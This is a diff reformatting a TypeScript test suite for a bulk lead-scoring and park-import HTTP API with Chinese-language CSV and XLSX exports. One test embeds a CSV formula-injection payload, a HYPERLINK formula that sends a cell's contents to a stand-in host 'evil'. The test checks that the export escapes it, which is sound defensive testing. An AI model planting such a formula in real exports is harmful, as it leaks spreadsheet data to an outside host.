@@ -69,7 +69,22 @@ describe('bulk scoring over HTTP', () => {
     expect(res.headers.get('content-type')).toContain('text/csv');
     expect(res.headers.get('content-disposition')).toContain("filename*=UTF-8''");
     const rows = parse(await csvBody(res)) as string[][];
-    expect(rows[0]).toEqual(['项目名称', '企业名称', '项目简介', '所属行业', '总投资(万元)', '面积需求(平方米)', '用地需求(亩)', '报送镇街', '备注', '推荐园区', '得分', '备选园区', '排除原因', '推荐理由']);
+    expect(rows[0]).toEqual([
+      '项目名称',
+      '企业名称',
+      '项目简介',
+      '所属行业',
+      '总投资(万元)',
+      '面积需求(平方米)',
+      '用地需求(亩)',
+      '报送镇街',
+      '备注',
+      '推荐园区',
+      '得分',
+      '备选园区',
+      '排除原因',
+      '推荐理由',
+    ]);
     expect(rows.slice(1).map((r) => r[0])).toEqual(['内窥镜项目', '时尚项目', '电镀项目']);
     expect(rows[1]![8]).toBe(`'=HYPERLINK("http://evil/?"&A1,"点击")`);
     expect(rows[2]![8]).toBe("'+86 573");
@@ -105,7 +120,9 @@ describe('bulk scoring over HTTP', () => {
     expect(sheets[0]![1]).not.toMatch(/<f[ >]/);
     const wb = new ExcelJS.Workbook();
     await wb.xlsx.load((await (await t.request(`/api/jobs/${up.body.jobId}/results?format=xlsx`)).arrayBuffer()) as never);
-    const values = wb.worksheets[0]!.getSheetValues().slice(1).map((r) => (r as unknown[]).slice(1));
+    const values = wb.worksheets[0]!.getSheetValues()
+      .slice(1)
+      .map((r) => (r as unknown[]).slice(1));
     expect(values.map((r) => r[0])).toEqual(['项目名称', '甲', '丁']);
     expect(values[1]![2]).toBe(6000); // numbers stay numbers
     expect(values[1]![3]).toBe('点击'); // a formula's value, never the formula
@@ -120,18 +137,30 @@ describe('bulk scoring over HTTP', () => {
     expect(j.status).toBe(200);
     expect(j.body.columns).toEqual(['项目名称', '项目简介']);
     expect(j.body.items).toHaveLength(1);
-    expect(j.body.items[0]).toMatchObject({ row: 1, input: { 项目名称: '甲', 项目简介: '研发生产内窥镜' }, best: { parkId: 'jx-weichuang' } });
+    expect(j.body.items[0]).toMatchObject({
+      row: 1,
+      input: { 项目名称: '甲', 项目简介: '研发生产内窥镜' },
+      best: { parkId: 'jx-weichuang' },
+    });
     const errs = parse(await csvBody(await t.request(`/api/jobs/${up.body.jobId}/errors`))) as string[][];
-    expect(errs).toEqual([['行号', '表格行', '字段', '列', '说明'], ['2', '3', 'summary', '项目简介', '第 2 行：项目简介和所属行业至少填写一项']]);
+    expect(errs).toEqual([
+      ['行号', '表格行', '字段', '列', '说明'],
+      ['2', '3', 'summary', '项目简介', '第 2 行：项目简介和所属行业至少填写一项'],
+    ]);
     const list = await t.json('/api/jobs?limit=5');
     expect(list.body.items.some((x: any) => x.id === up.body.jobId)).toBe(true);
   });
 
   it('offers a template that imports as it is', async () => {
     const text = await csvBody(await t.request('/api/jobs/template?format=csv'));
-    expect(text.startsWith('项目名称,企业名称,项目简介,所属行业,总投资(万元),面积需求(平方米),用地需求(亩),年产值(万元),年税收(万元),报送镇街')).toBe(true);
+    expect(
+      text.startsWith('项目名称,企业名称,项目简介,所属行业,总投资(万元),面积需求(平方米),用地需求(亩),年产值(万元),年税收(万元),报送镇街'),
+    ).toBe(true);
     const xlsx = new Uint8Array(await (await t.request('/api/jobs/template?format=xlsx')).arrayBuffer());
-    for (const [bytes, name] of [[text, 't.csv'], [xlsx, 't.xlsx']] as const) {
+    for (const [bytes, name] of [
+      [text, 't.csv'],
+      [xlsx, 't.xlsx'],
+    ] as const) {
       const up = await upload(t, bytes, name);
       expect(up.status).toBe(202);
       expect(up.body).toMatchObject({ total: 2, failed: 0, ignoredColumns: [] });
@@ -176,7 +205,9 @@ describe('bulk scoring over HTTP', () => {
       const cell = await upload(small, '项目简介\n做传感器\n' + '传'.repeat(30) + '\n', 'x.csv');
       expect(cell.status).toBe(202);
       const job = await finished(small, cell.body.jobId);
-      expect(job.errors).toEqual([expect.objectContaining({ row: 2, field: 'summary', message: expect.stringContaining('超过 20 个字符') })]);
+      expect(job.errors).toEqual([
+        expect.objectContaining({ row: 2, field: 'summary', message: expect.stringContaining('超过 20 个字符') }),
+      ]);
     } finally {
       await small.jobs.stop();
     }
@@ -201,7 +232,9 @@ describe('bulk scoring over HTTP', () => {
 
   it('keeps the API responsive while a job scores in worker threads', async () => {
     const leads = syntheticLeads(demoSeed(), 6000, 77);
-    const csv = '项目名称,项目简介,面积需求(平方米),总投资(万元)\n' + leads.map((l) => `${l.name},${l.summary},${l.floorAreaM2 ?? ''},${l.investmentWan ?? ''}`).join('\n');
+    const csv =
+      '项目名称,项目简介,面积需求(平方米),总投资(万元)\n' +
+      leads.map((l) => `${l.name},${l.summary},${l.floorAreaM2 ?? ''},${l.investmentWan ?? ''}`).join('\n');
     const up = await upload(t, csv, 'big.csv');
     expect(up.status).toBe(202);
     let answeredWhileScoring = 0;
@@ -242,7 +275,12 @@ describe('park and vacancy import over HTTP', () => {
     const before = t.kb();
     const park = (await t.json('/api/parks/jx-weichuang')).body;
     const unit = park.spaces[0];
-    const csv = ['空间编号,园区编号,楼栋,楼层,面积(平方米),空间类型,状态', `${unit.id},,,,,,已租`, 'jx-weichuang-new-unit,jx-weichuang,9号楼,1,2500,厂房,空置', 'bad-unit,no-such-park,1号楼,1,100,厂房,空置'].join('\n');
+    const csv = [
+      '空间编号,园区编号,楼栋,楼层,面积(平方米),空间类型,状态',
+      `${unit.id},,,,,,已租`,
+      'jx-weichuang-new-unit,jx-weichuang,9号楼,1,2500,厂房,空置',
+      'bad-unit,no-such-park,1号楼,1,100,厂房,空置',
+    ].join('\n');
     const up = await upload(t, csv, 'spaces.csv', '/api/import/spaces');
     expect(up.body).toMatchObject({ total: 3, imported: 2, created: 1, updated: 1, failed: 1 });
     expect(up.body.errors[0]).toMatchObject({ row: 3, field: 'parkId' });
